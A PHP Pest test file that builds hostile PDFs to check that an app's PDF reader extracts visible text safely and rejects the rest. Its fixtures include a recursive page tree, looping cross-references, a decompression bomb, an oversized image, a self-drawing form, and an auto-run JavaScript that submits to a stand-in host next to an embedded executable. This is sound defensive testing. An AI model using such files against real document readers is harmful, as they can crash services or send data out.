<?php

namespace Tests\Feature\FullTexts;

use App\Files\In\PdfPaper;
use App\Files\In\UnreadablePdf;

/**
 * A PDF of these objects, numbered from 1, of which the first is the catalogue.
 *
 * @param  list<string>  $objects
 */
function pdfOf(array $objects, ?int $startsAt = null, string $trailer = ''): string
{
    $pdf = "%PDF-1.7\n";
    $at = [];
    foreach ($objects as $i => $object) {
        $at[] = strlen($pdf);
        $pdf .= ($i + 1)." 0 obj\n{$object}\nendobj\n";
    }
    $xref = strlen($pdf);
    $count = count($objects) + 1;
    $entries = implode('', array_map(fn (int $one): string => sprintf("%010d 00000 n \n", $one), $at));
    $startsAt ??= $xref;

    $table = "xref\n0 {$count}\n0000000000 65535 f \n{$entries}";

    return "{$pdf}{$table}trailer\n<< /Size {$count} /Root 1 0 R {$trailer} >>\nstartxref\n{$startsAt}\n%%EOF\n";
}

function streamOf(string $content, string $with = ''): string
{
    return '<< /Length '.strlen($content)." {$with} >>\nstream\n{$content}\nendstream";
}

/**
 * One page that says something, with more in the catalogue, in the page’s resources and after its objects.
 *
 * @param  list<string>  $more
 * @return list<string>
 */
function pageOf(string $content, string $catalogue = '', string $resources = '', array $more = []): array
{
    return [
        "<< /Type /Catalog /Pages 2 0 R {$catalogue} >>",
        '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F 5 0 R >> {$resources} >> >>",
        $content,
        '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
        ...$more,
    ];
}

/** The words of a file that came from anywhere, or why there are none. */
function wordsIn(string $pdf): string
{
    $path = (string) tempnam(sys_get_temp_dir(), 'hostile');
    file_put_contents($path, $pdf);
    try {
        $blocks = PdfPaper::read($path)->blocks;

        return $blocks === [] ? UnreadablePdf::withoutText()->getMessage() : implode(' ', array_column($blocks, 'text'));
    } catch (UnreadablePdf $why) {
        return $why->getMessage();
    } finally {
        unlink($path);
    }
}

it('reads what can be read of a hostile PDF and says what is wrong with the rest, within its bounds', function (string $pdf, string $says) {
    expect(wordsIn($pdf))->toContain($says)->not->toContain('app.alert')->not->toContain('payload');
})->with(function () {
    $says = 'BT /F 12 Tf 72 700 Td (Lamps helped nurses at night.) Tj ET';
    $kids = implode(' ', array_map(fn (int $i): string => "{$i} 0 R", range(5, 10_004)));
    $page = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R /Resources << /Font << /F 4 0 R >> >> >>';

    return [
        'ten thousand pages' => [
            pdfOf([
                '<< /Type /Catalog /Pages 2 0 R >>',
                "<< /Type /Pages /Kids [{$kids}] /Count 10000 >>",
                streamOf($says),
                '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
                ...array_fill(0, 10_000, $page),
            ]),
            'Lamps helped nurses at night.',
        ],
        'a table of references that leads nowhere' => [pdfOf(pageOf(streamOf($says)), 99_999_999), 'Lamps helped nurses'],
        'a table of references that leads to itself' => [pdfOf(pageOf(streamOf($says)), trailer: '/Prev 9'), 'Lamps helped nurses'],
        'pages within themselves' => [
            pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >>']),
            'It has no text in it',
        ],
        'a script and a file within' => [
            pdfOf(pageOf(
                streamOf($says),
                '/OpenAction 6 0 R /Names << /EmbeddedFiles << /Names [(run.exe) 7 0 R] >> >>',
                more: [
                    '<< /S /JavaScript /JS (app.alert\(1\); this.submitForm\("https://x.example"\);) >>',
                    '<< /Type /Filespec /F (run.exe) /EF << /F 8 0 R >> >>',
                    streamOf('MZ payload', '/Type /EmbeddedFile'),
                ],
            )),
            'Lamps helped nurses at night.',
        ],
        'a picture of four thousand million points' => [
            pdfOf(pageOf(
                streamOf("{$says} q 500 0 0 500 0 0 cm /I Do Q"),
                resources: '/XObject << /I 6 0 R >>',
                more: [streamOf(
                    (string) gzcompress('x'),
                    '/Type /XObject /Subtype /Image /Width 65000 /Height 65000 /ColorSpace /DeviceRGB '.
                        '/BitsPerComponent 8 /Filter /FlateDecode',
                )],
            )),
            'Lamps helped nurses at night.',
        ],
        'a page that unpacks to sixty million bytes' => [
            pdfOf(pageOf(streamOf((string) gzcompress($says.str_repeat(' ', 60_000_000)), '/Filter /FlateDecode'))),
            'Lamps helped nurses at night.',
        ],
        'a form that draws itself' => [
            pdfOf(pageOf(
                streamOf("{$says} /X Do"),
                resources: '/XObject << /X 6 0 R >>',
                more: [streamOf(
                    '/X Do /X Do',
                    '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>',
                )],
            )),
            'Lamps helped nurses at night.',
        ],
        'a web page' => ['<html><script>app.alert(1)</script></html>', 'It is no PDF, or damaged.'],
        'nothing' => ['', 'It is no PDF, or damaged.'],
    ];
});
